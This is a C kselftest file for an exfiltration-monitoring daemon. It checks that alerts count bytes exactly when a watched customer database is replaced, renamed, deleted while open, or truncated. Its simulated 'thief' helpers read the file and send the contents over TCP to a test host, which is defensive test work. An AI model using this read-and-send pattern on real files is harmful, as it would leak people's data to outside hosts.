// SPDX-License-Identifier: GPL-2.0-only
/*
 * A watched database that changes under the daemon, on the sensor under
 * test ($EXFILMON_SENSOR, eBPF by default): replaced atomically (a new
 * file renamed over it, as sqlite's VACUUM INTO and editors do), renamed
 * aside, deleted while open, truncated and grown again. The semantics are
 * in docs/design.md "Watched files that change"; each test states the
 * bytes really read and sent and asserts the alert says exactly that.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "kselftest_harness.h"
#include "customers.h"
#include "daemon_run.h"
#include "testhost.h"

#define DB_BYTES	(2 << 20)
#define NEW_BYTES	((3 << 20) + 4321)
#define BUF_MAX		(16 << 20)
#define THEFT_PORT	443

struct world {
	char dir[64];
	char db[128];
	char sock[128];
	long size;
	struct testhost th;
	pid_t daemon;
};

static int world_up(struct __test_metadata *_metadata, struct world *e,
		    int idx)
{
	char conf[1024], path[160], log[160];

	if (geteuid())
		SKIP(return 1, "exfilmond needs root");
	strcpy(e->dir, "/tmp/exfilmon-replace-XXXXXX");
	if (!mkdtemp(e->dir) || chmod(e->dir, 0755))
		return -1;
	snprintf(e->db, sizeof(e->db), "%s/customers.csv", e->dir);
	snprintf(e->sock, sizeof(e->sock), "%s/exfilmon.sock", e->dir);
	snprintf(path, sizeof(path), "%s/exfilmon.conf", e->dir);
	snprintf(log, sizeof(log), "%s/exfilmond.log", e->dir);
	e->size = customers_write(e->db, DB_BYTES);
	if (e->size < 0)
		return -1;
	snprintf(conf, sizeof(conf),
		 "[watch]\npath = %s\n\n"
		 "[correlation]\nread_threshold = 1M\nsend_threshold = 256K\n"
		 "window = 1h\n\n"
		 "[network]\ninternal = 10.0.0.0/8\n\n"
		 "[daemon]\nstate_dir = %s/state\nsocket = %s\n"
		 "group = exfilmon-test-nonexistent\n",
		 e->db, e->dir, e->sock);
	if (write_file(path, conf) || testhost_create(&e->th, idx))
		return -1;
	e->daemon = daemon_start(path, e->sock, log);
	if (e->daemon < 0) {
		run("cat %s >&2", log);
		testhost_destroy(&e->th);
		return -1;
	}
	return 0;
}

static void world_down(struct world *e)
{
	daemon_stop(e->daemon);
	testhost_destroy(&e->th);
	if (e->dir[0])
		run("rm -rf %s", e->dir);
}

static int64_t num(struct json_object *o, const char *key)
{
	struct json_object *v;

	return o && json_object_object_get_ex(o, key, &v) ?
		json_object_get_int64(v) : -1;
}

static const char *str(struct json_object *o, const char *key)
{
	struct json_object *v;

	return o && json_object_object_get_ex(o, key, &v) ?
		json_object_get_string(v) : "";
}

static struct json_object *first_file(struct json_object *a)
{
	struct json_object *v;

	if (!json_object_object_get_ex(a, "files", &v) ||
	    json_object_array_length(v) < 1)
		return NULL;
	return json_object_array_get_idx(v, 0);
}

/* The watch list's entry for the database (a new reference), or NULL. */
static struct json_object *db_entry(const struct world *e)
{
	static const char *const args[] = { "watch", "list", NULL };
	struct json_object *arr = ctl_json(e->sock, args), *o = NULL;
	size_t i;

	for (i = 0; arr && i < json_object_array_length(arr); i++) {
		struct json_object *x = json_object_array_get_idx(arr, i);

		if (!strcmp(str(x, "path"), e->db))
			o = json_object_get(x);
	}
	json_object_put(arr);
	return o;
}

static double now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

/*
 * Poll the watch list until the database's entry has inode ino and
 * inodes inodes (-1: any), for up to 5 s. Milliseconds since t0, or -1.
 */
static double wait_entry(const struct world *e, ino_t ino, int inodes,
			 double t0)
{
	double end = now_ms() + 5000;

	while (now_ms() < end) {
		struct json_object *o = db_entry(e);
		int ok = num(o, "ino") == (int64_t)ino &&
			 (inodes < 0 || num(o, "inodes") == inodes);

		json_object_put(o);
		if (ok)
			return now_ms() - t0;
		usleep(10000);
	}
	return -1;
}

static ino_t ino_of(const char *path)
{
	struct stat st;

	return stat(path, &st) ? 0 : st.st_ino;
}

/* exfilctl alerts: the first alert once it has sent >= bytes (10 s). */
static struct json_object *wait_alert(const struct world *e, long bytes)
{
	static const char *const args[] = { "alerts", NULL };
	double end = now_ms() + 10000;

	while (now_ms() < end) {
		struct json_object *arr = ctl_json(e->sock, args), *a;

		if (arr && json_object_array_length(arr) > 0) {
			a = json_object_array_get_idx(arr, 0);
			if (num(a, "bytes_sent") >= bytes) {
				json_object_get(a);
				json_object_put(arr);
				return a;
			}
		}
		json_object_put(arr);
		usleep(100000);
	}
	return NULL;
}

/* In a child: send n bytes of buf to addr:THEFT_PORT; exits on failure. */
static void send_or_exit(const char *addr, const char *buf, long n)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_port = htons(THEFT_PORT) };
	long sent = 0;
	int fd;

	inet_pton(AF_INET, addr, &sin.sin_addr);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (void *)&sin, sizeof(sin)))
		_exit(3);
	while (sent < n) {
		ssize_t k = write(fd, buf + sent, n - sent);

		if (k <= 0)
			_exit(4);
		sent += k;
	}
	close(fd);
}

/* In a child: read fd to its end (at most max); the bytes read. */
static long read_to_end(int fd, char *buf, long max)
{
	long got = 0;
	ssize_t n;

	while (got < max && (n = read(fd, buf + got, max - got < (1 << 20) ?
				      max - got : (1 << 20))) > 0)
		got += n;
	return got;
}

/*
 * A thief in two steps: it opens path and reads first bytes of it, tells
 * us (one byte on *ready), waits for our go (one byte on *go), then, when
 * rewind is set, seeks back to the start; it reads to the end and sends
 * all it read. Returns its pid; ready and go are our ends of the pipes.
 */
static pid_t thief_start(const struct world *e, const char *path, long first,
			 int rewind, int *ready, int *go)
{
	int rp[2], gp[2];
	pid_t pid;

	if (pipe(rp) || pipe(gp))
		return -1;
	pid = fork();
	if (pid)
		goto parent;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	close(rp[0]);
	close(gp[1]);
	{
		char *buf = malloc(BUF_MAX), c = 0;
		long got = 0;
		int fd = open(path, O_RDONLY);

		if (!buf || fd < 0)
			_exit(1);
		while (got < first) {
			ssize_t n = read(fd, buf + got, first - got);

			if (n <= 0)
				_exit(2);
			got += n;
		}
		if (write(rp[1], &c, 1) != 1 || read(gp[0], &c, 1) != 1)
			_exit(5);
		if (rewind && lseek(fd, 0, SEEK_SET))
			_exit(6);
		got += read_to_end(fd, buf + got, BUF_MAX - got);
		close(fd);
		send_or_exit(e->th.remote4, buf, got);
		_exit(0);
	}
parent:
	close(rp[1]);
	close(gp[0]);
	*ready = rp[0];
	*go = gp[1];
	if (pid < 0) {
		close(rp[0]);
		close(gp[1]);
	}
	return pid;
}

/* Wait for the thief's first read, run nothing, then let it go on. */
static int thief_ready(int ready)
{
	char c;

	return read(ready, &c, 1) == 1 ? 0 : -1;
}

static int thief_finish(pid_t pid, int ready, int go)
{
	int status;
	char c = 0;

	if (write(go, &c, 1) != 1)
		return -1;
	close(go);
	close(ready);
	return waitpid(pid, &status, 0) == pid && !status ? 0 : -1;
}

/* A thief that reads path whole and sends it; its pid, or -1. */
static pid_t thief(const struct world *e, const char *path)
{
	int ready, go;
	pid_t pid = thief_start(e, path, 0, 0, &ready, &go);

	if (pid < 0 || thief_ready(ready) || thief_finish(pid, ready, go))
		return -1;
	return pid;
}

/*
 * Each test waits at most 5 s for the watch list and 10 s for the alert
 * when it fails: 60 s leaves room, so that a slow failure still runs the
 * teardown (a timeout kills the test without it).
 */
FIXTURE(replace) {
	struct world e;
};

FIXTURE_SETUP(replace)
{
	int ret = world_up(_metadata, &self->e, 45);

	if (ret != 1)
		ASSERT_EQ(0, ret);
}

FIXTURE_TEARDOWN(replace)
{
	world_down(&self->e);
}

/*
 * Write a new database next to the watched one and rename it over it.
 * Returns the new inode, having waited for the daemon to follow it; the
 * time it took is the window in which reads of the new file go uncounted.
 */
static ino_t replace_db(struct __test_metadata *_metadata, struct world *e,
			long *size)
{
	char tmp[160];
	double t0, ms;
	ino_t ino;

	snprintf(tmp, sizeof(tmp), "%s/customers.csv.tmp", e->dir);
	*size = customers_write(tmp, NEW_BYTES);
	ino = ino_of(tmp);
	if (*size < 0 || !ino)
		return 0;
	t0 = now_ms();
	if (rename(tmp, e->db))
		return 0;
	ms = wait_entry(e, ino, -1, t0);
	TH_LOG("the daemon followed the rename in %.1f ms (as seen by polling "
	       "exfilctl watch list)", ms);
	return ms < 0 ? 0 : ino;
}

TEST_F_TIMEOUT(replace, a_theft_after_rename_over_is_alerted_with_exact_bytes,
	       60)
{
	struct world *e = &self->e;
	struct json_object *a;
	struct sink sink;
	long size;
	pid_t pid;

	if (_metadata->skip)
		return;	/* skipped in the setup */

	ASSERT_NE(0, replace_db(_metadata, e, &size));
	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, THEFT_PORT,
				&sink));
	pid = thief(e, e->db);
	ASSERT_LT(0, pid);
	ASSERT_EQ(size, sink_wait(&sink));
	a = wait_alert(e, size);
	ASSERT_NE(NULL, a);
	EXPECT_EQ(pid, num(a, "pid"));
	EXPECT_EQ(size, num(a, "bytes_read"));
	EXPECT_EQ(size, num(a, "bytes_sent"));
	EXPECT_STREQ(e->db, str(first_file(a), "path"));
	EXPECT_EQ(size, num(first_file(a), "bytes_read"));
	json_object_put(a);
}

/*
 * The insider renames the database aside, lets a new one take its name,
 * and reads the old one under its new name: still the watched data.
 */
TEST_F_TIMEOUT(replace, reads_of_the_renamed_aside_database_still_count,
	       60)
{
	struct world *e = &self->e;
	struct json_object *a, *o;
	char aside[160];
	struct sink sink;
	long size;
	pid_t pid;

	if (_metadata->skip)
		return;	/* skipped in the setup */

	snprintf(aside, sizeof(aside), "%s/old.csv", e->dir);
	ASSERT_EQ(0, rename(e->db, aside));
	size = customers_write(e->db, NEW_BYTES);
	ASSERT_LT(0, size);
	ASSERT_LE(0, wait_entry(e, ino_of(e->db), 2, now_ms()));
	o = db_entry(e);
	EXPECT_EQ(1, num(o, "replaced"));
	json_object_put(o);

	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, THEFT_PORT,
				&sink));
	pid = thief(e, aside);
	ASSERT_LT(0, pid);
	ASSERT_EQ(e->size, sink_wait(&sink));
	a = wait_alert(e, e->size);
	ASSERT_NE(NULL, a);
	EXPECT_EQ(pid, num(a, "pid"));
	EXPECT_EQ(e->size, num(a, "bytes_read"));
	EXPECT_EQ(e->size, num(a, "bytes_sent"));
	/* named for the watched path, and marked as the earlier file */
	EXPECT_EQ(0, strncmp(str(first_file(a), "path"), e->db,
			     strlen(e->db)));
	EXPECT_NE(NULL, strstr(str(first_file(a), "path"), "replaced"));
	json_object_put(a);
}

/*
 * Deleted while a thief holds it open: the inode lives on, and so does
 * its watch, until the last open file is closed; then it is forgotten, so
 * that its inode number, free for the next file, is not watched.
 */
TEST_F_TIMEOUT(replace, reads_of_a_deleted_but_open_database_count,
	       60)
{
	struct world *e = &self->e;
	struct json_object *a;
	int ready, go;
	struct sink sink;
	long first = (1 << 20) + 17;
	ino_t ino = ino_of(e->db);
	pid_t pid;

	if (_metadata->skip)
		return;	/* skipped in the setup */

	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, THEFT_PORT,
				&sink));
	pid = thief_start(e, e->db, first, 0, &ready, &go);
	ASSERT_LT(0, pid);
	ASSERT_EQ(0, thief_ready(ready));
	ASSERT_EQ(0, unlink(e->db));
	/* the daemon has seen nothing to act on: still the one inode */
	usleep(200000);
	ASSERT_LE(0, wait_entry(e, ino, 1, now_ms()));
	ASSERT_EQ(0, thief_finish(pid, ready, go));
	ASSERT_EQ(e->size, sink_wait(&sink));
	a = wait_alert(e, e->size);
	ASSERT_NE(NULL, a);
	EXPECT_EQ(pid, num(a, "pid"));
	EXPECT_EQ(e->size, num(a, "bytes_read"));
	EXPECT_EQ(e->size, num(a, "bytes_sent"));
	json_object_put(a);
	/* closed: no name, no open file, no watch */
	EXPECT_LE(0, wait_entry(e, 0, 0, now_ms()));
}

/*
 * Truncated to nothing and written again while a thief has it open: the
 * thief reads first bytes, then from the start again. Counts are bytes
 * that read() returned, whatever the file's size did meanwhile.
 */
TEST_F_TIMEOUT(replace, a_truncated_then_regrown_database_counts_exactly,
	       60)
{
	struct world *e = &self->e;
	long first = (1 << 20) + 5, size;
	struct json_object *a;
	struct sink sink;
	int ready, go;
	struct stat st;
	char tmp[160];
	pid_t pid;

	if (_metadata->skip)
		return;	/* skipped in the setup */

	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, THEFT_PORT,
				&sink));
	pid = thief_start(e, e->db, first, 1, &ready, &go);
	ASSERT_LT(0, pid);
	ASSERT_EQ(0, thief_ready(ready));
	/* new records, copied into the same inode after truncating it */
	snprintf(tmp, sizeof(tmp), "%s/new.csv", e->dir);
	size = customers_write(tmp, NEW_BYTES);
	ASSERT_LT(0, size);
	ASSERT_EQ(0, truncate(e->db, 0));
	ASSERT_EQ(0, run("cat %s >> %s", tmp, e->db));
	ASSERT_EQ(0, stat(e->db, &st));
	ASSERT_EQ(size, st.st_size);
	ASSERT_EQ(0, thief_finish(pid, ready, go));
	ASSERT_EQ(first + size, sink_wait(&sink));
	a = wait_alert(e, first + size);
	ASSERT_NE(NULL, a);
	EXPECT_EQ(first + size, num(a, "bytes_read"));
	EXPECT_EQ(first + size, num(a, "bytes_sent"));
	EXPECT_EQ(first + size, num(first_file(a), "bytes_read"));
	json_object_put(a);
}

TEST_HARNESS_MAIN
